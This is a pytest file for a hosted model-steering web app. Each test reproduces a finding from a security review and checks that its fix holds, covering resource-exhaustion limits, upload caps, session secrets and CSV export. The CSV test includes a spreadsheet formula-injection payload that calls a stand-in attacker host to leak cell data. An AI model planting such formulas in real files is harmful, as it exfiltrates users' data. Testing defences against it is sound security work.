"""Hosted mode, round 2 (issue #24): each finding of the second attack on ``app.py --hosted`` reproduced and
refused or bounded, on the real bundled model, a real SQLite log and real files. Numbers are the issue's."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import tempfile
import threading
from pathlib import Path
from types import SimpleNamespace

import gradio as gr
import pytest
from helpers import compute, refusal, wait_until

from steer_ui.app.context import AppContext
from steer_ui.app.dashboard import Dashboard
from steer_ui.app.hosted import Limits
from steer_ui.errors import UserError
from steer_ui.log.store import Store

ROOT = Path(__file__).resolve().parent.parent
EXAMPLES = ROOT / "assets" / "examples" / "in-short.jsonl"
MB = 2**20


@pytest.fixture()
def hosted(bundled, tmp_path) -> Dashboard:
    return Dashboard(AppContext(lm=bundled, store=Store(str(tmp_path / "log.sqlite")), files=tmp_path / "files",
                                limits=Limits()))


def said(err: BaseException) -> str:
    return getattr(err, "message", None) or str(err)


# --- 2. a training outlives its visitor -----------------------------------------------------------------
def test_a_training_whose_visitor_goes_away_ends_and_frees_the_model(hosted):
    """The attack: cancelling the API job at step 3 left the training holding the model (another visitor
    waited 235.7 s). Gradio closes the event's generator when its job is cancelled or its tab closed."""
    text = "\n".join(EXAMPLES.read_text().splitlines()[:10])
    page = SimpleNamespace(session_hash="tab-gone")
    updates = hosted.train.train(text, None, "12", 200, None, request=page)
    for _ in range(3):
        next(updates)
    assert hosted.ctx.model_lock.locked()
    updates.close()  # what Gradio does on cancel / a closed tab
    wait_until(lambda: not hosted.ctx.model_lock.locked())  # ended within a step, not after 200
    assert not hosted.train.stops
    assert [t for t in threading.enumerate() if t.name == "steer-ui-train"] == []


# --- 4. a training's cost is its steps x batch x tokens -------------------------------------------------
def test_a_training_over_the_token_budget_is_refused_before_any_work(hosted, bundled):
    """The attack: 200 examples of 4,000 characters x 200 steps held the model ~88 minutes. The examples,
    steps and text caps each held; their product did not."""
    forwards = []
    handle = bundled.layers[0].register_forward_pre_hook(lambda *a: forwards.append(1))
    long = "\n".join(json.dumps({"prompt": f"Question {i}?", "completion": "In short: " + "word " * 700})
                     for i in range(200))
    try:
        raised, cpu_s, peak = refusal(lambda: next(hosted.train.train(long, None, "10-13", 200, None)))
    finally:
        handle.remove()
    assert isinstance(raised, gr.Error) and "token positions through the model" in said(raised)
    assert "this server's limit is 400,000" in said(raised)
    assert not forwards and peak < 100 * MB and cpu_s < 1.0  # the examples tokenized, no model work


def test_a_preference_set_s_reference_pass_stops_when_asked(bundled):
    """The attack: Stop during a preference set's reference pass was ignored for 160 s (40 examples)."""
    from steer_ui.vectors.examples import Example
    from steer_ui.vectors.training import TrainConfig, train_vector

    examples = [Example(f"Is {n} even?", chosen=f"In short: {'yes' if n % 2 == 0 else 'no'}.",
                        rejected="Well, it depends on many things.") for n in range(40)]
    cancel, forwards = threading.Event(), []

    def count(*args) -> None:
        forwards.append(1)
        if len(forwards) == 3:
            cancel.set()  # Stop pressed during the reference pass

    handle = bundled.layers[0].register_forward_pre_hook(count)  # training calls the inner model
    try:
        result = train_vector(bundled, examples, TrainConfig((12,), steps=5), cancel=cancel)
    finally:
        handle.remove()
    assert result.stopped == "cancelled" and not result.curve
    assert len(forwards) <= 4  # the pass ended at its next example, not after all 80 forwards


# --- 6. questions in a file skip the prompt cap ---------------------------------------------------------
def test_a_question_longer_than_the_prompt_cap_is_refused(hosted, tmp_path):
    upload = tmp_path / "upload" / "long.jsonl"
    upload.parent.mkdir()
    upload.write_text(json.dumps({"question": "Is this long? " * 2000, "answer": "yes"}) + "\n")
    with pytest.raises(gr.Error) as err:
        hosted.sweep.sweep("", str(upload), "0", vector="confidence", max_new_tokens=4, progress=None)
    assert said(err.value) == "question '1' is 27,999 characters; this server's limit for a prompt is 4,000"
    assert hosted.ctx.store.list_runs() == []


# --- 9. fields parsed before their size is checked ------------------------------------------------------
def test_the_sweep_s_coefficients_are_length_checked_before_they_are_parsed(hosted):
    """The attack: a 20 MiB coefficient field added 622 MiB before anything refused it."""
    raised, cpu_s, peak = refusal(hosted.sweep.sweep, "yesno:1", None, "1," * (10 * MB), vector="confidence",
                                  max_new_tokens=4, progress=None)
    assert isinstance(raised, gr.Error) and "the coefficients field is 20,971,520 characters" in said(raised)
    assert cpu_s < 1.0 and peak < 100 * MB


# --- 10. a session secret that failed to write ----------------------------------------------------------
def test_an_empty_or_short_secret_is_never_used(tmp_path, monkeypatch):
    """The attack: a failed first write left session-secret empty; later starts signed with an empty key,
    so a session id alone opened another visitor's run."""
    from steer_ui.app.sessions import SECRET_ENV, SessionTokens, server_secret

    monkeypatch.delenv(SECRET_ENV, raising=False)
    (tmp_path / "session-secret").write_text("")  # what the failed write left
    secret = server_secret(tmp_path)
    assert len(secret) == 64 and (tmp_path / "session-secret").read_text() == secret.decode()
    assert (tmp_path / "session-secret").stat().st_mode & 0o777 == 0o600
    assert SessionTokens(b"").issue()[1] != SessionTokens(secret).issue()[1]
    (tmp_path / "session-secret").write_text("0123")  # cut short
    assert server_secret(tmp_path) != b"0123" and len(server_secret(tmp_path)) == 64
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".tmp-")]  # no half-written files left
    monkeypatch.setenv(SECRET_ENV, "short")
    with pytest.raises(UserError, match=r"\$STEER_UI_SESSION_SECRET is 5 characters; a secret needs at least 16"):
        server_secret(tmp_path)


# --- 16. formulas in CSV exports ------------------------------------------------------------------------
def test_csv_exports_neutralise_formulas_and_sweep_results_round_trip(bundled, tmp_path):
    from steer_ui.cli import main
    from steer_ui.engine.decode import run
    from steer_ui.engine.run_settings import RunSettings
    from steer_ui.experiments.questions import Question
    from steer_ui.experiments.sweep import SweepConfig, run_sweep
    from steer_ui.log.recorder import RunRecorder

    store = Store(str(tmp_path / "log.sqlite"))
    prompt = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
    recorder = RunRecorder(store, store.new_session("cli", "test"), bundled, RunSettings(prompt, max_new_tokens=2))
    for event in run(bundled, RunSettings(prompt, max_new_tokens=2, probe_every=0)):
        recorder(event)
    recorder.close()
    assert main(["export", "--db", str(tmp_path / "log.sqlite"), "--format", "csv", "--out",
                 str(tmp_path / "export.csv")]) == 0
    with open(tmp_path / "export_runs.csv", newline="") as f:
        row = next(csv.DictReader(f))
    assert row["prompt"] == "'" + prompt  # a spreadsheet shows it as text, and runs nothing
    # A sweep's results file is read back to resume: its texts come back exactly as they were.
    q = Question("-1", "=1+1 Is two even?", "-yes", "yesno")
    cfg = SweepConfig(questions=[q], coefs=(0.0,), template=RunSettings("", max_new_tokens=3, probe_every=0))
    out = tmp_path / "sweep"
    run_sweep(bundled, cfg, out)
    raw = next(csv.DictReader(open(out / "results.csv", newline="")))
    assert raw["question_id"] == "'-1" and raw["gold"] == "'-yes"
    assert run_sweep(bundled, cfg, out).ran == 0  # resumed: the question's id read back as "-1"


# --- 17. the temp folder after SIGTERM and SIGKILL ------------------------------------------------------
def test_sigterm_removes_the_temp_folder_and_a_killed_server_s_is_removed_at_the_next_start(tmp_path):
    from steer_ui.app.context import TEMP_PREFIX, temp_folder

    env = {**os.environ, "HF_HUB_OFFLINE": "1", "STEER_UI_DB": str(tmp_path / "log.sqlite")}
    with socket_port() as port:
        server = subprocess.Popen([sys.executable, "app.py", "--port", str(port)], cwd=ROOT, env=env,
                                  stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    mine = f"{TEMP_PREFIX}{server.pid}."
    try:
        folder = wait_until(lambda: next((p for p in Path(tempfile.gettempdir()).glob(f"{mine}*")), None))
        wait_until(lambda: _answers(port))
    finally:
        server.send_signal(signal.SIGTERM)
        server.wait(120)
    assert not folder.exists()
    # SIGKILL leaves the folder; the next start removes it (its process is gone), and no live server's.
    dead = Path(tempfile.gettempdir()) / f"{TEMP_PREFIX}{server.pid}.1-abc"
    dead.mkdir()
    fresh = temp_folder()
    assert not dead.exists() and fresh.exists()


def _answers(port: int) -> bool:
    import urllib.request

    try:
        return urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5).status == 200
    except OSError:
        return False


class socket_port:
    def __enter__(self) -> int:
        import socket

        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            return s.getsockname()[1]

    def __exit__(self, *exc) -> None:
        pass


# --- 18. a damaged conversion cache ---------------------------------------------------------------------
def test_a_damaged_conversion_cache_is_rebuilt(bundled, tmp_path):
    """The attack (a crash or a full disk mid-write): truncated weights stopped every start with a traceback."""
    import shutil

    import torch

    from steer_ui.model.loading import default_cache_dir, load_model

    # A copy of the conversion the session's bundled model loaded from (one GGUF conversion, ~25 s, not two).
    cache = tmp_path / "cache"
    shutil.copytree(default_cache_dir() / "converted", cache / "converted")
    ids = bundled.tokenizer.encode("Is 7 prime?", return_tensors="pt")
    with torch.inference_mode():
        before = bundled.model(input_ids=ids).logits
    every = list((cache / "converted").glob("*/model.safetensors"))
    for weights in every:  # the copy may hold other conversions too: all of them cut short
        cut = weights.with_name("cut")
        cut.write_bytes(weights.read_bytes()[: 4096])
        os.replace(cut, weights)
    again = load_model("smollm2-135m", device="cpu", dtype="float32", cache_dir=cache)
    assert sum(w.stat().st_size > 4096 for w in every) == 1  # the bundled model's, converted again
    with torch.inference_mode():
        # Same weights; the few-row CPU kernels are chosen by timing, so rounding may differ in the last bits.
        torch.testing.assert_close(before, again.model(input_ids=ids).logits, rtol=0, atol=1e-4)


# --- 19. a log written by a newer version ---------------------------------------------------------------
def test_a_log_from_a_newer_steer_ui_is_one_message_and_left_alone(tmp_path):
    import sqlite3

    from steer_ui.cli import main

    db = tmp_path / "log.sqlite"
    Store(str(db))
    with sqlite3.connect(db) as conn:
        conn.execute("update alembic_version set version_num = '0099'")
    with pytest.raises(UserError, match=r"written by a newer steer-ui \(schema revision 0099; this version knows "
                                        r"up to 0005\): upgrade steer-ui, or use another --db"):
        Store(str(db))
    out = subprocess.run([sys.executable, "-m", "steer_ui", "runs", "--db", str(db)], capture_output=True,
                         text=True, timeout=300, env={**os.environ, "HF_HUB_OFFLINE": "1"})
    assert out.returncode == 2 and out.stderr.startswith("error: the session log") and "Traceback" not in out.stderr
    with sqlite3.connect(db) as conn:
        assert conn.execute("select version_num from alembic_version").fetchone() == ("0099",)
    assert main(["runs", "--db", str(tmp_path / "other.sqlite")]) == 0


# --- 20. deeply nested JSON lines -----------------------------------------------------------------------
@pytest.mark.parametrize("line", ["[" * 1990, '{"a":' * 2000])  # past the parser's depth (~1,000)
def test_deeply_nested_json_is_not_valid_json(hosted, tmp_path, line):
    from steer_ui.jsonl import parse_lines, read_jsonl

    with pytest.raises(UserError, match=r"^pairs:1: not valid JSON \(nested too deeply\)$"):
        parse_lines(line, "pairs")
    path = tmp_path / "q.jsonl"
    path.write_text(line + "\n")
    with pytest.raises(UserError, match=r"q.jsonl:1: not valid JSON \(nested too deeply\)$"):
        read_jsonl(path, "questions", MB)
    if len(line) < 1992:  # within the hosted cap on the pairs text: it is parsed, and refused as JSON
        with pytest.raises(gr.Error) as err:
            compute(hosted, line, None, "mean_diff", "all", progress=None)
        assert said(err.value).startswith("pairs:1: not valid JSON (nested too deeply)")


# --- 8. Stop waited for the save --------------------------------------------------------------------------
def test_stop_returns_at_once_while_the_run_saves(hosted, tmp_path):
    """The attack: Stop waited in its request for the run to be saved (up to 60 s); 45 Stop calls during a
    slow run made another visitor's GET / take 22 s. Here the save is held up by a lock on the database."""
    import sqlite3

    page = SimpleNamespace(session_hash="tab-stop")
    frames = hosted.generate.generate(prompt="Write a long story about a prime number.", max_new_tokens=16,
                                      probe_every=0, browser_id=hosted.ctx.session_for(None)[1], request=page)
    next(frames)
    live = hosted.ctx.active["tab-stop"]
    blocker = sqlite3.connect(tmp_path / "log.sqlite", timeout=60)
    blocker.execute("BEGIN EXCLUSIVE")  # the run cannot write its end until this lets go
    try:
        for _ in range(45):
            hosted.generate.stop(page)
        assert live._thread.is_alive()  # every Stop returned while the run was still saving
    finally:
        blocker.rollback()
        blocker.close()
    final = list(frames)[-1]
    assert "stopped" in final["status"] and final["result"]["status"] == "cancelled"


# --- 7 and 15. page loads ----------------------------------------------------------------------------------
def test_page_loads_write_nothing_are_rate_limited_and_run_links_count_as_opening_a_run(hosted, bundled):
    """The attack: a flood of page loads filled the queue and wrote a session row each, never removed; and
    ``?run=ID`` opened runs past Open run's rate limit."""
    from steer_ui.log.schema import SessionRow

    def sessions() -> int:
        with hosted.ctx.store.Session() as s:
            return s.query(SessionRow).count()

    request = SimpleNamespace(client=SimpleNamespace(host="203.0.113.7"), query_params={})
    loads = [hosted.history.on_page_load(None, request) for _ in range(hosted.ctx.limits.page_loads_per_minute)]
    assert all("browser_id" in out for out in loads) and sessions() == 0  # no rows for visits without runs
    refused = hosted.history.on_page_load(None, request)
    assert "rate limit: 60 page loads a minute per session" in refused["status"] and "browser_id" not in refused
    other = SimpleNamespace(client=SimpleNamespace(host="203.0.113.8"), query_params={})
    token = hosted.history.on_page_load(None, other)["browser_id"]
    run_id = list(hosted.generate.generate(prompt="Is 7 prime?", max_new_tokens=2, probe_every=0,
                                           browser_id=token))[-1]["result"]["run_id"]
    assert sessions() == 1  # the session's row came with its first run
    linked = SimpleNamespace(client=SimpleNamespace(host="203.0.113.8"), query_params={"run": run_id})
    opened = [hosted.history.on_page_load(token, linked) for _ in range(7)]  # (the run itself was called
    assert all(f"Run `{run_id}`" in out["status"] for out in opened[:6])  # directly, past Gradio's validator)
    assert "rate limit: 6 runs a minute per session" in opened[6]["status"]


def test_empty_sessions_left_by_an_older_version_are_dropped(tmp_path):
    from datetime import timedelta

    from steer_ui.log.schema import SessionRow
    from steer_ui.log.store import utcnow

    store = Store(str(tmp_path / "log.sqlite"))
    for i in range(3):
        store.new_session("browser", session_id=f"old{i:09d}")
    with store.Session.begin() as s:
        s.query(SessionRow).update({"last_seen": utcnow() - timedelta(days=2)})
    store.new_session("browser", session_id="recent000000")
    assert Store(str(tmp_path / "log.sqlite")).drop_empty_sessions() == 0  # the reopening dropped the old ones
    with store.Session() as s:
        assert [r.id for r in s.query(SessionRow)] == ["recent000000"]


# --- 1. the probe suffix in tokens ----------------------------------------------------------------------------
@pytest.mark.parametrize("suffix, tokens", [("答" * 1300, 1300), (" So the final answer is" * 8, 48)])
def test_a_probe_suffix_over_the_token_cap_is_refused_before_any_forward(hosted, bundled, suffix, tokens):
    """The attack: 4,096 characters of CJK were 12,288 tokens riding in every row's forward at every probe
    step (one step 181 s instead of 0.13 s); the cap counted characters."""
    forwards = []
    handle = bundled.layers[0].register_forward_pre_hook(lambda *a: forwards.append(1))
    try:
        raised, cpu_s, peak = refusal(lambda: next(hosted.generate.generate(
            prompt="Is 7 prime?", probe_suffix=suffix, probe_every=1, max_new_tokens=4,
            browser_id=hosted.ctx.session_for(None)[1])))
    finally:
        handle.remove()
    assert isinstance(raised, gr.Error), raised
    assert said(raised).startswith("the probe suffix is ") and "tokens; this server's limit is 32" in said(raised)
    assert int(said(raised).split()[4]) >= tokens // 3  # counted in tokens, whatever the characters
    assert not forwards and cpu_s < 1.0 and peak < 100 * MB and hosted.ctx.store.list_runs() == []


# --- 5. a vector file's model hint --------------------------------------------------------------------------
def test_a_gguf_with_a_huge_model_hint_is_refused_from_its_header(hosted, tmp_path):
    """The attack: a 2.1 MB controlvector.model_hint was stored twice per run and repeated in every status
    update (132 MiB sent for a 64-token run)."""
    import gguf
    import numpy as np

    path = tmp_path / "upload" / "hint.gguf"
    path.parent.mkdir()
    writer = gguf.GGUFWriter(str(path), "controlvector")
    writer.add_string("controlvector.model_hint", "llama" * 420_000)
    writer.add_uint32("controlvector.layer_count", 1)
    writer.add_tensor("direction.16", np.ones(bundled_hidden(hosted), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    raised, cpu_s, peak = refusal(lambda: list(hosted.generate.generate(
        prompt="Is 7 prime?", vector="uploaded or computed file", vector_file=str(path), coefs="1",
        layers="16", max_new_tokens=2)))
    assert isinstance(raised, gr.Error)
    assert said(raised) == ("hint.gguf: its metadata holds more than 65,536 bytes of text; a control vector's "
                            "is a few bytes (its model hint)")
    assert cpu_s < 1.0 and peak < 100 * MB and hosted.ctx.store.list_runs() == []


def test_a_model_hint_longer_than_a_model_family_is_refused(tmp_path):
    import torch

    from steer_ui.vectors.files import load_vector, save_vector
    from steer_ui.vectors.vector import SteeringVector

    path = save_vector(SteeringVector({3: torch.ones(8)}, model_hint="x" * 65), tmp_path / "v.safetensors")
    with pytest.raises(UserError, match="its model hint is 65 characters; a model hint names a model family in at "
                                        "most 64"):
        load_vector(path)


def bundled_hidden(dash: Dashboard) -> int:
    return dash.ctx.lm.hidden_size


# --- 12. text that is not valid Unicode -------------------------------------------------------------------
def test_a_lone_surrogate_is_refused_where_it_comes_in_and_the_log_still_exports(hosted, tmp_path):
    """The attack: a lone surrogate in the probe suffix with the probe off broke the run's last update and
    then the operator's whole-log export (JSONL and CSV)."""
    from steer_ui.log.archive import export

    with pytest.raises(gr.Error) as err:
        list(hosted.generate.generate(prompt="Is 7 prime?", probe_suffix="answer \ud800", probe_every=0,
                                      max_new_tokens=2))
    assert said(err.value) == "the probe suffix is not valid text (a lone surrogate at character 8)"
    with pytest.raises(gr.Error) as err:
        compute(hosted, '{"positive": "\\ud800", "negative": "b"}', None, "mean_diff", "all", progress=None)
    assert said(err.value).startswith("pairs:1: not valid text (a lone surrogate)")
    list(hosted.generate.generate(prompt="Is 7 prime?", max_new_tokens=2, probe_every=0))
    for fmt in ("jsonl", "csv"):
        assert export(hosted.ctx.store, tmp_path / f"all.{fmt}", fmt)


# --- 13 and 14. vector copies: named by handle, never by path, and pruned -----------------------------------
def test_a_reopened_run_names_its_vectors_by_handle_and_server_paths_are_refused(hosted, bundled, tmp_path):
    """The attack: reopening a run wrote the server's temp-folder path into the rows field, and a path typed
    into that folder was read."""
    from conftest import random_vector

    from steer_ui.app.downloads import KEEP_FOLDERS
    from steer_ui.vectors.files import save_vector

    upload = save_vector(random_vector(bundled, range(12, 16), scale=4.0, seed=3), tmp_path / "mine.safetensors")
    token = hosted.ctx.session_for(None)[1]
    final = list(hosted.generate.generate(prompt="Is 7 prime?", vector="uploaded or computed file",
                                          vector_file=str(upload), coefs="4", layers="12-15", max_new_tokens=2,
                                          probe_every=0, browser_id=token))[-1]
    reopened = hosted.history.open_run(final["result"]["run_id"], token)
    assert reopened["vector"] == "uploaded or computed file"  # the first row's: its stored copy in the file box
    assert str(hosted.ctx.files) in reopened["vector_file"]  # (a File output: Gradio serves it from its cache)
    reopened = hosted.history.open_run(list(hosted.generate.generate(
        prompt="Is 7 prime?", vector="confidence", coefs="2", rows="file=4@12-15", vector_file=str(upload),
        layers="16-19", max_new_tokens=2, probe_every=0, browser_id=token))[-1]["result"]["run_id"], token)
    named = reopened["rows"].split("=")[0]
    assert named.startswith("stored:") and str(hosted.ctx.files) not in reopened["rows"]
    again = list(hosted.generate.generate(prompt="Is 7 prime?", vector=named, coefs="4", layers="12-15",
                                          max_new_tokens=2, probe_every=0, browser_id=token))[-1]
    assert again["result"]["rows"][1]["text"] == final["result"]["rows"][1]["text"]  # the same vector
    copy = next(hosted.ctx.files.glob("vector-*/*.safetensors"))
    for typed in (str(copy), str(upload)):
        with pytest.raises(gr.Error) as err:
            list(hosted.generate.generate(prompt="Is 7 prime?", rows=f"{typed}=4@12-15", max_new_tokens=2,
                                          browser_id=token))
        assert said(err.value).startswith("no preset vector") and str(tmp_path) not in said(err.value)
    # Copies are kept in folders like the downloads, the newest KEEP_FOLDERS of them.
    for seed in range(KEEP_FOLDERS + 3):
        hosted.vectors.form_name(random_vector(bundled, [12], seed=100 + seed))
    assert len(list(hosted.ctx.files.glob("vector-*"))) == KEEP_FOLDERS


# --- 3 and 9. request bodies and uploads --------------------------------------------------------------------
def test_bodies_and_uploads_are_bounded_before_gradio_reads_them(bundled, tmp_path):
    """The attacks: 4 concurrent 200 MiB bodies added 1.46 GB RSS; 2 requests x 30 files x 16 MB landed
    960 MiB of uploads in 3.5 s with no session, count or rate check."""
    import httpx
    import psutil
    from conftest import serve_dashboard

    limits = Limits(upload_mb=1, uploads_per_hour=3, upload_mb_per_hour=2, body_mb=1)
    demo, url, dash = serve_dashboard(bundled, tmp_path, limits)
    chunk = b" " * MB  # the client sends the same MiB again and again: it holds no big body itself

    def body(mib: int):
        for _ in range(mib):
            yield chunk

    rss = psutil.Process().memory_info().rss
    try:
        try:
            big = httpx.post(f"{url}gradio_api/queue/join", content=body(200), timeout=120,
                             headers={"content-length": str(200 * MB)})
            assert big.status_code == 413 and "this server's limit is 1,048,576" in big.json()["detail"]
        except httpx.HTTPError:  # refused before the client finished sending
            pass
        try:  # a body sent in chunks, with no length to refuse up front
            cut = httpx.post(f"{url}gradio_api/queue/join", content=body(64), timeout=120).status_code
        except httpx.HTTPError:
            cut = None  # the server stopped reading
        assert cut != 200
        assert psutil.Process().memory_info().rss - rss < 100 * MB  # neither body was held

        def upload(size: int) -> int:
            files = {"files": ("v.safetensors", b"x" * size, "application/octet-stream")}
            return httpx.post(f"{url}gradio_api/upload", files=files, timeout=120).status_code

        assert upload(2 * MB) == 413  # more than one file's worth in a request
        assert [upload(900_000), upload(900_000)] == [200, 200]
        assert upload(900_000) == 429  # 2 MB an hour from this address
        assert upload(10) == 429 or upload(10) == 429  # and at most 3 uploads an hour
        refused = httpx.post(f"{url}gradio_api/upload", files={"files": ("a", b"a")}, timeout=60)
        assert refused.status_code == 429 and "upload limit" in refused.json()["detail"]
        assert httpx.get(url, timeout=60).status_code == 200  # the page itself still answers
    finally:
        demo.close()


# --- 11. the rate limit counted runs, not their cost --------------------------------------------------------
def test_model_time_is_budgeted_per_session_and_address(hosted):
    """The attack: one session's 6 allowed runs at the caps made another visitor wait 347 s. Now each job is
    charged the seconds it held the model, and a session (or address) past its budget is refused."""
    from steer_ui.app.hosted import ModelTime

    hosted.ctx.model_time = budget = ModelTime(per_session=0.05, per_address=1000)
    here = SimpleNamespace(client=SimpleNamespace(host="198.51.100.1"), session_hash="a")
    token = hosted.ctx.session_for(None)[1]
    run = dict(prompt="Is 7 prime?", max_new_tokens=8, probe_every=2, browser_id=token)
    first = list(hosted.generate.generate(**run, request=here))[-1]
    assert first["result"]["status"] == "finished"
    with pytest.raises(gr.Error) as err:
        list(hosted.generate.generate(**run, request=here))
    assert said(err.value).startswith("model time limit: 0 s of the model every 10 minutes per session")
    with pytest.raises(gr.Error) as err:  # a sweep, a training and a vector are charged and refused alike
        hosted.sweep.sweep("yesno:1", None, "0", browser_id=token, request=here, progress=None)
    assert said(err.value).startswith("model time limit")
    with pytest.raises(gr.Error):
        compute(hosted, '{"positive": "a", "negative": "b"}', None, "mean_diff", "all", browser_id=token,
                               request=here, progress=None)
    others = [hosted.ctx.session_for(None)[1] for _ in range(3)]  # new sessions from the same address
    done = [list(hosted.generate.generate(**{**run, "browser_id": t}, request=here))[-1] for t in others[:2]]
    assert all(d["result"]["status"] == "finished" for d in done)
    budget.per_address = 0.15  # three runs' worth is more than that
    with pytest.raises(gr.Error) as err:
        list(hosted.generate.generate(**{**run, "browser_id": others[2]}, request=here))
    assert "per client address" in said(err.value)


# --- 21. grading held the model ------------------------------------------------------------------------------
def test_a_sweep_grades_without_holding_the_model(hosted, monkeypatch):
    """The attack: a pathological gold answer cost ~6 s of model time per distinct extracted answer, because
    the grader's child process ran under the model lock."""
    from steer_ui.experiments import sweep

    held = []

    def grading(value, question):  # the real grader, noting whether the model was held meanwhile
        held.append(hosted.ctx.model_lock.locked())
        return real(value, question)

    real = sweep.is_correct
    monkeypatch.setattr(sweep, "is_correct", grading)
    out = hosted.sweep.sweep("wordproblems:2", None, "0", max_new_tokens=8, progress=None)
    assert "finished" in out["sweep_status"] and held and not any(held)


# --- every long job ends with its visitor: computing a vector too ------------------------------------------
def test_a_vector_computation_whose_visitor_goes_away_stops_and_frees_the_model(hosted, bundled):
    """Like a training (2.), a vector computation held the model until it finished, whoever was waiting."""
    pairs = "\n".join(json.dumps({"positive": f"Wait, let me check {i} again.", "negative": f"So {i} it is."})
                      for i in range(150))
    texts = []
    handle = bundled.layers[0].register_forward_pre_hook(lambda *a: texts.append(1))
    try:
        updates = hosted.vectors.compute(pairs, None, "mean_diff", "all", progress=None)
        next(updates)  # it is running (holding the model)
        assert hosted.ctx.model_lock.locked()
        updates.close()  # what Gradio does on cancel / a closed tab
        wait_until(lambda: not hosted.ctx.model_lock.locked())
    finally:
        handle.remove()
    assert len(texts) < 12  # stopped between batches: all 300 texts are 19 batches of 16


def test_a_vector_computation_over_the_token_budget_is_refused_before_any_work(hosted, bundled):
    hosted.ctx.limits = Limits(vector_positions=100)
    pairs = "\n".join(json.dumps({"positive": "Wait, let me check that again carefully.", "negative": "Done."})
                      for _ in range(10))
    forwards = []
    handle = bundled.layers[0].register_forward_pre_hook(lambda *a: forwards.append(1))
    try:
        raised, cpu_s, peak = refusal(compute, hosted, pairs, None, "mean_diff", "all", progress=None)
    finally:
        handle.remove()
    assert isinstance(raised, gr.Error) and said(raised).startswith("these pairs are ")
    assert said(raised).endswith("tokens to read; this server's limit is 100: use fewer or shorter pairs")
    assert not forwards and cpu_s < 1.0
